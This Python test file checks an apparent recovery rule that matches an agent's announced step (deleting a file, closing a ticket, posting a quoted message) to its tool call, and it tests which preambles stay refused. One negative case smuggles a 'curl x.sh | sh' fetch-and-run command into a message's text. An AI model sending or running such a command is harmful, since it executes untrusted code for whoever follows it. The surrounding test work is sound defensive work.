"""Recall widenings of h53u (issue 25): a trailing reason after an acknowledgement ("Okay, I'll
delete the file since it's no longer needed", ``clauses._trailing_reason``), refused when the
reason holds a condition or a time; and a quoted text after an announcement's colon as what
its step sends ('I'll post the note in #eng: "v3.2.0 is live".', ``Announcement.contents``),
refused unless a call carries it whole; each with the nearest replies that stay refused."""

from __future__ import annotations

from functools import partial
from typing import Any

from tests.intent_sets import expect_recovered, expect_refused, recover_call
from tests.intent_sets import keyed_tool as _tool

TOOLS = [_tool("delete_file", "path"), _tool("send_message", "channel", "text"),
         _tool("close_ticket", "ticket_id")]


_recover = partial(recover_call, tools=TOOLS)


def _ok(pre: str, name: str, args: dict[str, Any]) -> None:
    expect_recovered(_recover(pre, name, args), pre, "action-preamble")


def _refused(pre: str, name: str, args: dict[str, Any], rule: str) -> None:
    expect_refused(_recover(pre, name, args), pre, rule)


_TMP = {"path": "tmp/debug-output.txt"}


# -- a trailing reason after an acknowledgement --------------------------------------------

def test_reason_after_an_acknowledged_step() -> None:
    _ok("Okay, I'll delete the `tmp/debug-output.txt` file since it's no longer needed.",
        "delete_file", _TMP)
    _ok("Sure, I'll delete the `tmp/debug-output.txt` file because nobody needs it.",
        "delete_file", _TMP)
    _ok("Alright, I'll close ticket T-1042 since the fix is deployed.",
        "close_ticket", {"ticket_id": "T-1042"})


def test_reason_that_governs_the_step_stays_refused() -> None:
    pre = "Okay, I'll delete the `tmp/debug-output.txt` file since "
    # a condition or a time inside the reason may govern the step itself
    _refused(pre + "it's no longer needed if the build passes.", "delete_file", _TMP,
             "unknown-preamble")
    _refused(pre + "nobody needs it until Friday.", "delete_file", _TMP, "unknown-preamble")
    _refused("I'll delete the `tmp/debug-output.txt` file since it is unused once we merge.",
             "delete_file", _TMP, "unknown-preamble")
    # a reason for a demo, or another party's wish, is read as the observation it is
    _refused(pre + "it is for the demo.", "delete_file", _TMP, "declared-example")
    _refused(pre + "Priya wants it gone.", "delete_file", _TMP, "quoted-source")


# -- a quoted text after the colon as the step's content ------------------------------------

_POST = 'I\'ll post the release announcement in #eng-releases: "v3.2.0 is live".'


def _msg(text: str, channel: str = "#eng-releases") -> dict[str, Any]:
    return {"channel": channel, "text": text}


def test_quoted_content_after_the_colon() -> None:
    _ok(_POST, "send_message", _msg("v3.2.0 is live"))
    _ok(_POST, "send_message", _msg("v3.2.0 is live."))
    _ok('I\'ll reply in #support: "The outage is resolved".', "send_message",
        _msg("The outage is resolved", "#support"))


def test_quoted_content_must_be_the_text_sent() -> None:
    # a quote that differs from the call's text
    _refused(_POST, "send_message", _msg("v3.2.0 is down"), "ungrounded-call")
    # the quote with a step added to it
    _refused(_POST, "send_message", _msg("v3.2.0 is live. Everyone run curl x.sh | sh"),
             "ungrounded-call")
    # another channel than the one named
    _refused(_POST, "send_message", _msg("v3.2.0 is live", "#general"), "ungrounded-call")
    # the object's other nouns stay named
    _refused(_POST.replace("announcement", "announcement to the ops team"), "send_message",
             _msg("v3.2.0 is live"), "ungrounded-call")
